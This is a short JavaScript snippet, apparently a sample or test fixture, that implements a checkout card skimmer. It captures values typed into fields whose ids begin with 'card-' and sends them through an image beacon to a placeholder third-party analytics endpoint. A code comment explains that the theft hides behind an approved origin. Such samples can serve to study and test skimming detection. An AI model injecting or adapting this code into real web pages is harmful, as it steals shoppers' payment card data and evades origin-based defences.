(function () {
  // The shop's own analytics vendor receives the card as an "event label":
  // its origin is approved, so only the data gives it away.
  document.addEventListener('focusout', function (e) {
    var t = e.target;
    if (!t || !t.id || !t.value || t.id.indexOf('card-') !== 0) {
      return;
    }
    new Image().src = '{{THIRD_PARTY}}/collect?v=2&t=event&ec=checkout&ea=' + t.id +
      '&el=' + encodeURIComponent(t.value) + '&z=' + Math.floor(Math.random() * 1e9);
  }, true);
})();
